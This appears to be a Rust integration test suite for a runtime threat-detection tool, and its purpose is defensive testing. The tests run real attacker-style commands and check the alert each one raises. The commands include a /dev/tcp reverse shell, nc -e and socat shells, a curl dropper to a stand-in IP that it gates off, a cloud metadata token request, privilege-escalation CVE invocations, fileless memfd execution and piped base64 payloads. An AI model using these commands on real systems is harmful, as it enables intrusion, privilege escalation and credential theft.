//! Findings end to end: real processes doing the real thing under runwarden, the findings read back
//! from the file sink and checked field by field (SCC categories), plus the quiet side: an ordinary
//! entrypoint chain yields nothing MEDIUM or above, and a broken policy stops the start.

mod common;

use std::io::{Read, Write};
use std::net::TcpListener;
use std::time::Duration;

use common::*;
use serde_json::Value;

fn rw_with_sink(dir: &tempfile::TempDir) -> (std::process::Command, std::path::PathBuf) {
    let sink = dir.path().join("findings.jsonl");
    let mut cmd = rw();
    cmd.env("RUNWARDEN_SINKS", format!("stderr,file:{}", sink.display()));
    (cmd, sink)
}

#[test]
fn scc_reverse_shell_over_dev_tcp() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let attacker = std::thread::spawn(move || {
        let (mut conn, _) = listener.accept().unwrap();
        conn.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
        conn.write_all(b"echo pwned-$((6*7))\nid -u\nexit 0\n").unwrap();
        let mut got = Vec::new();
        let _ = conn.read_to_end(&mut got);
        String::from_utf8_lossy(&got).into_owned()
    });
    let dir = tempfile::tempdir().unwrap();
    let (mut cmd, sink) = rw_with_sink(&dir);
    let script = format!("bash --norc --noprofile -i >& /dev/tcp/127.0.0.1/{port} 0>&1");
    cmd.args(["--", "bash", "-c", &script]);
    let out = run(&mut cmd, TIMEOUT);
    out.assert_code(0);
    assert!(attacker.join().unwrap().contains("pwned-42"), "the reverse shell did not run");

    let findings = read_findings(&sink);
    let rs: Vec<&Value> = findings.iter().filter(|f| f["category"] == "Reverse Shell").collect();
    assert_eq!(rs.len(), 1, "one reverse shell, one finding (de-duplicated): {findings:#?}");
    let f = rs[0];
    assert_eq!(f["severity"], "CRITICAL");
    assert_eq!(f["findingClass"], "THREAT");
    assert_eq!(f["state"], "ACTIVE");
    assert_eq!(f["action"], "ALERT");
    assert_eq!(f["rule"]["id"], "reverse_shell_stdio_socket");
    assert_eq!(f["mitreAttack"]["primaryTechniques"][0], "T1059.004");
    let p = &f["processes"][0];
    assert_eq!(p["name"], "bash");
    assert_eq!(p["args"], serde_json::json!(["bash", "--norc", "--noprofile", "-i"]));
    let stdin = p["stdio"]["stdin"].as_str().unwrap();
    assert!(
        stdin.starts_with("socket tcp 127.0.0.1:") && stdin.contains(&format!("->127.0.0.1:{port}")),
        "{stdin}"
    );
    assert_eq!(p["binary"]["sha256"].as_str().unwrap().len(), 64);
    assert!(f["externalUri"].as_str().unwrap().starts_with("https://www.virustotal.com/gui/file/"));
    assert_eq!(f["ancestors"][0]["args"][0], "bash", "the parent is the bash -c that set up the redirection");
    assert!(f["description"].as_str().unwrap().contains(&format!("127.0.0.1:{port}")));

    // The attacker's first command through the shell: a UNIX command with its stdio on the socket.
    let rce = findings
        .iter()
        .find(|f| f["category"] == "Execution: Possible Remote Command Execution Detected")
        .unwrap_or_else(|| panic!("no remote command execution finding: {findings:#?}"));
    assert_eq!(rce["severity"], "MEDIUM");
    assert_eq!(rce["processes"][0]["args"], serde_json::json!(["id", "-u"]));
    assert_eq!(rce["processes"][0]["stdio"]["stdin"], p["stdio"]["stdin"], "the same socket");

    // The same finding on stderr, in Cloud Logging's structured form.
    let on_stderr: Vec<Value> =
        out.logs().into_iter().filter(|l| l["finding"]["findingId"] == f["findingId"]).collect();
    assert_eq!(on_stderr.len(), 1, "the stderr sink carries the same findingId");
    assert_eq!(on_stderr[0]["severity"], "CRITICAL");
    assert!(on_stderr[0]["message"].as_str().unwrap().starts_with("Reverse Shell: "));
}

#[test]
fn scc_exec_categories_from_real_commands() {
    let dir = tempfile::tempdir().unwrap();
    let (mut cmd, sink) = rw_with_sink(&dir);
    let shm = dir.path().join("x").display().to_string();
    let script = format!(
        "echo ZWNobyBkZWNvZGVk | base64 -d | sh; \
         find / -maxdepth 1 -name id_rsa >/dev/null 2>&1; \
         cp /bin/true /dev/shm/rw-test-$$ && /dev/shm/rw-test-$$; rm -f /dev/shm/rw-test-$$; \
         cp /bin/true {shm} && HTTPS_PROXY=http://bob:hunter2@127.0.0.1:9 {shm}; true"
    );
    cmd.args(["--", "sh", "-c", &script]);
    let out = run(&mut cmd, TIMEOUT);
    out.assert_code(0);
    assert!(out.stdout().contains("decoded"));
    let findings = read_findings(&sink);
    let cats: Vec<&str> = findings.iter().filter_map(|f| f["category"].as_str()).collect();
    for want in [
        "Defense Evasion: Base64 Encoded Shell Script Executed",
        "Credential Access: Search Private Keys or Passwords",
        "Privilege Escalation: Fileless Execution in /dev/shm",
        "Execution: Program Run with Disallowed HTTP Proxy Env",
    ] {
        assert!(cats.contains(&want), "missing {want:?} in {cats:#?}");
    }
    let shm_finding = findings
        .iter()
        .find(|f| f["category"] == "Privilege Escalation: Fileless Execution in /dev/shm")
        .unwrap();
    assert_eq!(shm_finding["severity"], "HIGH");
    assert!(shm_finding["processes"][0]["binary"]["path"].as_str().unwrap().starts_with("/dev/shm/rw-test-"));
    let proxy = findings
        .iter()
        .find(|f| f["category"] == "Execution: Program Run with Disallowed HTTP Proxy Env")
        .unwrap();
    assert_eq!(proxy["processes"][0]["envVariables"][0]["name"], "HTTPS_PROXY");
    // The proxy's password is redacted before the finding leaves.
    assert_eq!(proxy["processes"][0]["envVariables"][0]["val"], "http://bob:[REDACTED]@127.0.0.1:9");
    assert!(!std::fs::read_to_string(&sink).unwrap().contains("hunter2"), "a secret reached the sink");
}

/// Evidence survives cleanup: a program that deletes itself at once, or whose path gets a new file as
/// soon as it ended, is still reported with the sha256 and size of what ran, under either sensor (the
/// file is held open from the exec on). 20 rounds each. (A file rewritten in place after its program
/// ended is other contents under the same inode: the hash is then left out rather than wrong.)
#[test]
fn programs_deleted_or_overwritten_right_after_their_exec_keep_their_hash() {
    use sha2::{Digest, Sha256};
    let dir = tempfile::tempdir().unwrap();
    let (mut cmd, sink) = rw_with_sink(&dir);
    let sh = std::fs::canonicalize("/bin/sh").unwrap();
    let bytes = std::fs::read(&sh).unwrap();
    let want = format!("{:x}", Sha256::digest(&bytes));
    // Deleted by itself; then replaced by its parent (deleted, a new file at its path) as soon as it ran.
    let script = "for i in $(seq 20); do \
           cp /bin/sh /dev/shm/rw-gone-$$-$i && /dev/shm/rw-gone-$$-$i -c 'rm -f \"$0\"' /dev/shm/rw-gone-$$-$i; \
           cp /bin/sh /dev/shm/rw-over-$$-$i && /dev/shm/rw-over-$$-$i -c 'exit 0'; \
           rm -f /dev/shm/rw-over-$$-$i; echo other > /dev/shm/rw-over-$$-$i; rm -f /dev/shm/rw-over-$$-$i; \
         done; ls /dev/shm | grep -c rw-gone- || true";
    cmd.args(["--", "sh", "-c", script]);
    let out = run(&mut cmd, TIMEOUT);
    out.assert_code(0);
    assert_eq!(out.stdout().trim(), "0", "the programs deleted themselves");
    let findings = read_findings(&sink);
    let shm: Vec<&serde_json::Value> = findings
        .iter()
        .filter(|f| f["category"] == "Privilege Escalation: Fileless Execution in /dev/shm")
        .collect();
    assert!(!shm.is_empty(), "{findings:#?}");
    for f in &shm {
        let b = &f["processes"][0]["binary"];
        assert_eq!(b["sha256"], want.as_str(), "{f:#}");
        assert_eq!(b["size"].as_u64(), Some(bytes.len() as u64), "{f:#}");
        assert!(f["externalUri"].as_str().unwrap_or("").contains(&want), "{f:#}");
    }
}

/// What attackers do after they are in, from real commands: a script run from /tmp through its `#!`
/// line, a library preloaded from /tmp, shell history removed, a log removed, a setuid bit, file times
/// copied, process memory read, a shell out of awk. Each gives its rule's finding.
#[test]
fn post_exploitation_commands_are_found() {
    let dir = tempfile::tempdir().unwrap();
    let (mut cmd, sink) = rw_with_sink(&dir);
    let d = dir.path().display().to_string();
    let script = format!(
        "printf '#!/bin/sh\\necho from-tmp\\n' > /tmp/rw-s-$$.sh && chmod +x /tmp/rw-s-$$.sh && /tmp/rw-s-$$.sh; \
         rm -f /tmp/rw-s-$$.sh; \
         lib=$(ls /lib/x86_64-linux-gnu/libm.so.6 /usr/lib/x86_64-linux-gnu/libm.so.6 /lib64/libm.so.6 2>/dev/null | head -1); \
         cp \"$lib\" /tmp/rw-lib-$$.so && LD_PRELOAD=/tmp/rw-lib-$$.so /bin/true; rm -f /tmp/rw-lib-$$.so; \
         touch {d}/.bash_history && rm -f {d}/.bash_history; \
         rm -f /var/log/audit/rw-test-not-there-$$; \
         touch {d}/f && chmod u+s {d}/f; \
         touch -r /bin/sh {d}/f; \
         dd if=/proc/self/mem bs=1 count=1 2>/dev/null; \
         awk 'BEGIN {{ system(\"/bin/sh -c true\") }}'; \
         echo done"
    );
    cmd.args(["--", "sh", "-c", &script]);
    let out = run(&mut cmd, TIMEOUT);
    out.assert_code(0);
    assert!(out.stdout().contains("from-tmp") && out.stdout().contains("done"), "{}", out.stdout());
    let findings = read_findings(&sink);
    let rules: std::collections::BTreeSet<&str> =
        findings.iter().filter_map(|f| f["rule"]["id"].as_str()).collect();
    for want in [
        "script_from_temp_dir",
        "ld_preload_from_temp_dir",
        "shell_history_cleared",
        "log_files_removed",
        "setuid_bit_set",
        "timestomp",
        "proc_memory_read",
        "shell_escape_from_program",
    ] {
        assert!(rules.contains(want), "missing {want}: {rules:?}");
    }
    let script = findings.iter().find(|f| f["rule"]["id"] == "script_from_temp_dir").unwrap();
    assert!(script["description"].as_str().unwrap().contains("/tmp/rw-s-"), "{script:#}");
    let preload = findings.iter().find(|f| f["rule"]["id"] == "ld_preload_from_temp_dir").unwrap();
    let env = preload["processes"][0]["envVariables"].as_array().unwrap();
    assert!(env.iter().any(|v| v["name"] == "LD_PRELOAD"), "{preload:#}");
}

/// Data-flow rules on the pipeline view, whatever way the pipeline was typed: in a script file, and
/// typed into a shell reading commands from a pipe (as in a reverse shell). One finding per pipeline,
/// none for a decode into a file or into jq.
#[test]
fn piped_decoding_is_found_however_the_pipeline_was_typed() {
    let dir = tempfile::tempdir().unwrap();
    let (mut cmd, sink) = rw_with_sink(&dir);
    let script = dir.path().join("stage.sh");
    std::fs::write(
        &script,
        "echo ZWNobyBmcm9tLWZpbGUK | base64 -d | sh\n\
         curl -s --max-time 1 http://127.0.0.1:9/p.b64 | base64 -d > /dev/null\n\
         echo e30K | base64 -d | cat > /dev/null\n",
    )
    .unwrap();
    // The second shell reads its commands from a pipe, as a shell behind nc does.
    let typed = dir.path().join("typed.txt");
    std::fs::write(&typed, "echo ZWNobyBmcm9tLXN0ZGluCg== | base64 -d | sh\n").unwrap();
    let outer = format!("sh {}; cat {} | sh; echo done", script.display(), typed.display());
    cmd.args(["--", "sh", "-c", &outer]);
    let out = run(&mut cmd, TIMEOUT);
    out.assert_code(0);
    let stdout = out.stdout();
    assert!(stdout.contains("from-file") && stdout.contains("from-stdin"), "{stdout}");
    let findings = read_findings(&sink);
    let code: Vec<&serde_json::Value> =
        findings.iter().filter(|f| f["rule"]["id"] == "piped_encoded_code_execution").collect();
    assert_eq!(code.len(), 2, "one per pipeline (file, stdin): {findings:#?}");
    let download: Vec<&serde_json::Value> =
        findings.iter().filter(|f| f["rule"]["id"] == "piped_encoded_download").collect();
    assert_eq!(download.len(), 1, "{findings:#?}");
}

#[test]
fn benign_entrypoint_chain_gives_nothing_medium_or_above() {
    let dir = tempfile::tempdir().unwrap();
    let (mut cmd, sink) = rw_with_sink(&dir);
    // On the test host (unlike in a container) the file watcher would see other processes touch the
    // real /etc (a cron job opening /etc/shadow): give it an empty tree of its own.
    let quiet_root = tempfile::tempdir().unwrap();
    cmd.env("RUNWARDEN_WATCH_ROOT", quiet_root.path());
    let cfg = dir.path().join("config.json");
    let script = format!(
        "set -e; echo eyJwb3J0IjogODA4MH0= | base64 -d > {cfg}; sed -i 's/8080/8081/' {cfg}; \
         grep -q 8081 {cfg}; env | sort >/dev/null; id -u >/dev/null; ls / >/dev/null; \
         python3 -c 'import json,sys,subprocess; json.load(open(sys.argv[1])); subprocess.run([\"true\"], check=True)' {cfg}; \
         exec sleep 0.1",
        cfg = cfg.display()
    );
    cmd.args(["--", "sh", "-c", &script]);
    run(&mut cmd, TIMEOUT).assert_code(0);
    let loud: Vec<Value> = read_findings(&sink)
        .into_iter()
        .filter(|f| matches!(f["severity"].as_str(), Some("MEDIUM" | "HIGH" | "CRITICAL")))
        .collect();
    assert!(loud.is_empty(), "benign start-up raised findings: {loud:#?}");
}

#[test]
fn broken_policy_refuses_to_start_the_workload() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("bad.yaml"), "rules:\n  - id: x\n    enabled: maybe\n").unwrap();
    let marker = dir.path().join("ran");
    let mut cmd = rw();
    cmd.env("RUNWARDEN_POLICIES", dir.path()).args(["--", "touch", marker.to_str().unwrap()]);
    let out = run(&mut cmd, TIMEOUT);
    out.assert_code(2);
    assert!(!marker.exists(), "the workload ran despite a broken policy");
    assert!(out.stderr().contains("bad.yaml:2:"), "{}", out.stderr());

    let check = run(rw().args(["policy", "check", dir.path().to_str().unwrap()]), TIMEOUT);
    check.assert_code(2);
    assert!(check.stderr().contains("rule x"), "{}", check.stderr());
    let ok = run(rw().args(["policy", "check"]), TIMEOUT);
    ok.assert_code(0);
    assert!(ok.stdout().starts_with("policies OK: "), "{}", ok.stdout());
}

#[test]
fn scc_added_malicious_binary_and_malicious_url() {
    let dir = tempfile::tempdir().unwrap();
    let (mut cmd, sink) = rw_with_sink(&dir);
    let miner = dir.path().join("kworker").display().to_string();
    // A real ELF that still runs, carrying a miner's configuration strings (as packed miners do).
    let script = format!(
        "cp /bin/true {miner} && printf 'xmrig 6.21 --donate-level 1 -o stratum+tcp://pool.example:3333' >> {miner} && {miner}; \
         true http://203.0.113.66/payload.sh"
    );
    cmd.args(["--", "sh", "-c", &script]);
    run(&mut cmd, TIMEOUT).assert_code(0);
    let findings = read_findings(&sink);
    let m = findings
        .iter()
        .find(|f| f["category"] == "Execution: Added Malicious Binary Executed")
        .unwrap_or_else(|| panic!("no malicious binary finding: {findings:#?}"));
    assert_eq!(m["severity"], "CRITICAL");
    assert_eq!(m["processes"][0]["binary"]["path"], miner.as_str());
    assert_eq!(m["indicator"]["signatures"][0]["yaraRuleSignature"]["yaraRule"], "miner_xmrig_family");
    assert!(m["description"].as_str().unwrap().contains("(xmrig)"), "{}", m["description"]);
    assert!(
        !findings.iter().any(|f| f["rule"]["id"] == "added_binary_executed"
            && f["processes"][0]["binary"]["path"] == miner.as_str()),
        "the most specific category only"
    );
    let u = findings.iter().find(|f| f["category"] == "Malicious URL Observed").expect("malicious URL");
    assert_eq!(u["indicator"]["uris"][0], "http://203.0.113.66/payload.sh");
    assert_eq!(u["indicator"]["ipAddresses"][0], "203.0.113.66");
}

/// One workload doing, for real, what many exec-sensor categories describe. Tools this machine does not
/// have are stand-ins: executables with the tool's name (copies of /bin/true, or /bin/sh where the
/// tool starts a shell), run with the tool's real arguments; what is checked is the whole path from
/// the exec stop to the finding in the sink.
#[test]
fn scc_exec_categories_end_to_end() {
    let dir = tempfile::tempdir().unwrap();
    let bin = dir.path().join("bin");
    std::fs::create_dir(&bin).unwrap();
    for name in [
        "nc", "peirates", "steghide", "rclone", "sshd", "insmod", "auditctl", "curl", "socat", "sudo",
        "openssl",
    ] {
        std::fs::copy("/bin/true", bin.join(name)).unwrap();
    }
    std::fs::copy("/bin/sh", bin.join("foomatic-rip")).unwrap();
    std::fs::write(bin.join("linpeas.sh"), "true\n").unwrap();
    let victim = dir.path().join("victim");
    std::fs::write(&victim, "data").unwrap();
    let b = bin.display();
    let steps = [
        format!("{b}/nc -z 127.0.0.1 1"),
        format!("{b}/nc 127.0.0.1 9 -e /bin/sh"),
        format!("{b}/peirates"),
        format!("sh {b}/linpeas.sh"),
        "sh -c 'echo 1 > /nonexistent/cgroup/release_agent 2>/dev/null; true'".to_string(),
        format!("{b}/steghide extract -sf image.jpg"),
        format!("{b}/rclone copy /data remote:bucket"),
        "/bin/true --no-preserve-root".to_string(),
        format!("shred -u {}", victim.display()),
        "/bin/true -o stratum+tcp://pool.example:3333 -u wallet".to_string(),
        format!("{b}/sudo -u#-1 id"),
        format!("{b}/sshd -D"),
        format!("{b}/insmod /tmp/rootkit.ko"),
        format!("{b}/curl -H 'Metadata-Flavor: Google' http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
        format!("{b}/auditctl -D"),
        format!("{b}/openssl engine -t /tmp/evil_engine.so"),
        format!("{b}/socat TCP-LISTEN:9 EXEC:/bin/bash"),
        format!("{b}/foomatic-rip -c 'sh -c true'"),
        "sh -c 'false && curl -s http://127.0.0.1:1/x | base64 -d'".to_string(),
        "sh -c 'echo cHJpbnQoInB5Iik= | base64 -d | python3'".to_string(),
        "sh -c 'echo dHJ1ZQo= | base64 -d | bash'".to_string(),
        "python3 -c \"import base64;exec(base64.b64decode('cHJpbnQoImI2NCIp'))\"".to_string(),
        "python3 -c \"import subprocess;subprocess.run(['sh','-c','true'])\"".to_string(),
        "python3 -c \"import os;fd=os.memfd_create('x');os.write(fd,open('/bin/true','rb').read());os.execv('/proc/self/fd/%d'%fd,['x'])\"".to_string(),
        "find /nonexistent -name application_default_credentials.json 2>/dev/null".to_string(),
        "find /nonexistent -name secring.gpg 2>/dev/null".to_string(),
        "gcc --version >/dev/null".to_string(),
        "sh -c 'echo f0VMRgIBAQAAAAAAAAAAAAIAPgAB >/dev/null'".to_string(),
    ];
    let script = steps.join("; ") + "; true";
    let (mut cmd, sink) = rw_with_sink(&dir);
    cmd.args(["--", "sh", "-c", &script]);
    run(&mut cmd, Duration::from_secs(60)).assert_code(0);
    let findings = read_findings(&sink);
    let has = |category: &str, marker: &str| {
        findings.iter().any(|f| {
            f["category"] == category
                && f["processes"][0]["args"]
                    .as_array()
                    .is_some_and(|a| a.iter().any(|x| x.as_str().unwrap_or("").contains(marker)))
        })
    };
    let expected = [
        ("Execution: Netcat Remote Code Execution in Container", "-z", "LOW"),
        ("Execution: Netcat Remote Code Execution in Container", "-e", "HIGH"),
        ("Execution: Kubernetes Attack Tool Execution", "peirates", "CRITICAL"),
        ("Execution: Local Reconnaissance Tool Execution", "linpeas.sh", "MEDIUM"),
        ("Execution: Container Escape", "release_agent", "CRITICAL"),
        ("Command and Control: Steganography Tool Detected", "extract", "CRITICAL"),
        ("Exfiltration: Launch Remote File Copy Tools in Container", "remote:bucket", "LOW"),
        ("Impact: Detect Malicious Cmdlines", "--no-preserve-root", "CRITICAL"),
        ("Impact: Remove Bulk Data From Disk", "-u", "LOW"),
        (
            "Impact: Suspicious crypto mining activity using the Stratum Protocol",
            "stratum+tcp://pool.example:3333",
            "HIGH",
        ),
        (
            "Privilege Escalation: Abuse of Sudo For Privilege Escalation (CVE-2019-14287)",
            "-u#-1",
            "CRITICAL",
        ),
        ("Persistence: SSH Server Started in Container", "-D", "MEDIUM"),
        ("Persistence: Kernel Module Load Attempt", "/tmp/rootkit.ko", "HIGH"),
        ("Credential Access: Cloud Metadata Token Requested", "Metadata-Flavor: Google", "MEDIUM"),
        ("Defense Evasion: Disable or Modify Linux Audit System", "-D", "MEDIUM"),
        ("Execution: Suspicious OpenSSL Shared Object Loaded", "/tmp/evil_engine.so", "CRITICAL"),
        ("Execution: Socat Reverse Shell Detected", "EXEC:/bin/bash", "MEDIUM"),
        ("Execution: Possible Arbitrary Command Execution through CUPS (CVE-2024-47076)", "true", "CRITICAL"),
        ("Command and Control: Piped Encoded Download", "base64 -d", "MEDIUM"),
        ("Command and Control: Piped Encoded Code Execution Detected", "python3", "HIGH"),
        ("Command and Control: Piped Encoded Code Execution Detected", "| bash", "HIGH"),
        ("Defense Evasion: Base64 Encoded Python Script Executed", "b64decode", "MEDIUM"),
        ("Unexpected Child Shell", "true", "CRITICAL"),
        ("Execution: Fileless Execution in /memfd:", "x", "HIGH"),
        ("Credential Access: Find Google Cloud Credentials", "application_default_credentials.json", "LOW"),
        ("Credential Access: GPG Key Reconnaissance", "secring.gpg", "CRITICAL"),
        ("Defense Evasion: Launch Code Compiler Tool In Container", "--version", "LOW"),
        ("Defense Evasion: Base64 ELF File Command Line", "f0VMR", "MEDIUM"),
    ];
    let mut missing = Vec::new();
    for (category, marker, severity) in expected {
        if !has(category, marker) {
            missing.push(format!("{category} (args containing {marker:?})"));
            continue;
        }
        let f = findings.iter().find(|f| f["category"] == category && f["severity"] == severity);
        if f.is_none() {
            missing.push(format!("{category} with severity {severity}"));
        }
    }
    assert!(
        missing.is_empty(),
        "missing findings:\n{}\n\ngot: {:#?}",
        missing.join("\n"),
        findings
            .iter()
            .map(|f| (
                f["category"].as_str().unwrap_or("").to_string(),
                f["processes"][0]["args"].to_string()
            ))
            .collect::<Vec<_>>()
    );
    // The memfd program exited at once, yet it was hashed (held open from its exec stop), and the
    // hash is the one of what ran (/bin/true's bytes).
    let memfd =
        findings.iter().find(|f| f["category"] == "Execution: Fileless Execution in /memfd:").unwrap();
    let want = std::process::Command::new("sha256sum").arg("/bin/true").output().unwrap();
    let want = String::from_utf8_lossy(&want.stdout).split_whitespace().next().unwrap().to_string();
    assert_eq!(memfd["processes"][0]["binary"]["sha256"], want.as_str(), "{memfd:#}");
    // Every finding is complete per the contract.
    for f in &findings {
        for key in [
            "findingId",
            "category",
            "severity",
            "eventTime",
            "description",
            "mitreAttack",
            "rule",
            "resource",
            "action",
        ] {
            assert!(!f[key].is_null(), "{key} missing in {f}");
        }
    }
}

#[test]
fn scc_malicious_script_and_python() {
    let dir = tempfile::tempdir().unwrap();
    let (mut cmd, sink) = rw_with_sink(&dir);
    // A dropper one-liner (behind `false &&`: nothing is fetched or run) and base64-decoded Python.
    let dropper = "false && { curl -fsSL http://198.51.100.23/x -o /tmp/.kd && chmod +x /tmp/.kd && /tmp/.kd & history -c; pkill -f xmrig; }; true";
    let script = format!(
        "sh -c '{dropper}'; python3 -c \"import base64;exec(base64.b64decode('cHJpbnQoInB5dGhvbiBwYXlsb2FkIik='))\""
    );
    cmd.args(["--", "sh", "-c", &script]);
    let out = run(&mut cmd, TIMEOUT);
    out.assert_code(0);
    assert!(out.stdout().contains("python payload"));
    let findings = read_findings(&sink);
    let sh = findings
        .iter()
        .find(|f| f["category"] == "Malicious Script Executed" && f["processes"][0]["args"][2] == dropper)
        .unwrap_or_else(|| panic!("no Malicious Script Executed for the dropper: {findings:#?}"));
    assert_eq!(sh["severity"], "CRITICAL");
    let s = &sh["processes"][0]["script"];
    assert_eq!(s["contents"], dropper);
    assert_eq!(s["sha256"].as_str().unwrap().len(), 64);
    assert!(
        sh["externalUri"].as_str().unwrap().ends_with(s["sha256"].as_str().unwrap()),
        "VirusTotal names the script"
    );
    assert!(sh["description"].as_str().unwrap().contains("score"), "{}", sh["description"]);
    let py = findings
        .iter()
        .find(|f| f["category"] == "Execution: Malicious Python executed")
        .unwrap_or_else(|| panic!("no Malicious Python finding: {findings:#?}"));
    assert!(py["processes"][0]["script"]["contents"].as_str().unwrap().contains("b64decode"));
}

/// The sudo and polkit CVEs are about unprivileged users: the stand-in tools run as nobody (setpriv).
#[test]
fn scc_privilege_escalation_cves_as_an_unprivileged_user() {
    use std::os::unix::fs::PermissionsExt;
    let dir = tempfile::tempdir().unwrap();
    std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
    for name in ["pkexec", "sudoedit"] {
        std::fs::copy("/bin/true", dir.path().join(name)).unwrap();
    }
    let d = dir.path().display();
    // pkexec with GCONV_PATH set (PwnKit's environment); sudoedit -s with a trailing backslash (Baron Samedit).
    let script = format!(
        "setpriv --reuid=65534 --regid=65534 --clear-groups env GCONV_PATH=. {d}/pkexec; \
         setpriv --reuid=65534 --regid=65534 --clear-groups {d}/sudoedit -s 'x\\'; true"
    );
    let sink = dir.path().join("findings.jsonl");
    let mut cmd = rw();
    cmd.env("RUNWARDEN_SINKS", format!("file:{}", sink.display())).args(["--", "sh", "-c", &script]);
    run(&mut cmd, TIMEOUT).assert_code(0);
    let findings = read_findings(&sink);
    let cats: Vec<&str> = findings.iter().filter_map(|f| f["category"].as_str()).collect();
    for want in [
        "Privilege Escalation: Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)",
        "Privilege Escalation: Sudo Potential Privilege Escalation (CVE-2021-3156)",
    ] {
        assert!(cats.contains(&want), "missing {want:?} in {cats:#?}");
    }
}

/// Runs runwarden with `entrypoint` as the workload under script(1), which gives it a pseudo-terminal as
/// its stdin/stdout (as `docker run -it` does), and returns its terminal shell findings.
fn terminal_shell_findings(entrypoint: &str) -> Vec<serde_json::Value> {
    let dir = tempfile::tempdir().unwrap();
    let sink = dir.path().join("findings.jsonl");
    let inner = format!("{} -- sh -c '{entrypoint}'", runwarden().display());
    let mut cmd = std::process::Command::new("script");
    strip_config(&mut cmd);
    cmd.env("RUNWARDEN_SINKS", format!("file:{}", sink.display())).args(["-qec", &inner, "/dev/null"]);
    let out = run_with_input(&mut cmd, Some(Vec::new()), TIMEOUT);
    out.assert_code(0);
    read_findings(&sink)
        .into_iter()
        .filter(|f| f["category"] == "Execution: Terminal Shell in Container")
        .collect()
}

/// A shell on a pty below the entrypoint, `-c` or not (the reverse-shell upgrade `script -qc 'sh -i'`).
#[test]
fn scc_terminal_shell() {
    let found = terminal_shell_findings(r#"script -qc "sh -i -c id" /dev/null; true"#);
    let t = found.first().unwrap_or_else(|| panic!("no terminal shell finding"));
    assert_eq!(t["severity"], "HIGH");
    assert!(t["processes"][0]["stdio"]["stdin"].as_str().unwrap().starts_with("tty /dev/pts/"), "{t}");
    assert!(t["processes"][0]["args"].to_string().contains("-i"), "{t}");
}

/// `docker run -it image sh -c '...'`: the entrypoint and its start-up helpers have a terminal, and
/// nobody is typing.
#[test]
fn terminal_shell_quiet_on_a_tty_entrypoint() {
    let found = terminal_shell_findings(r#"sh -c "true"; sh -c "id" > /dev/null; true"#);
    assert!(found.is_empty(), "{found:#?}");
}
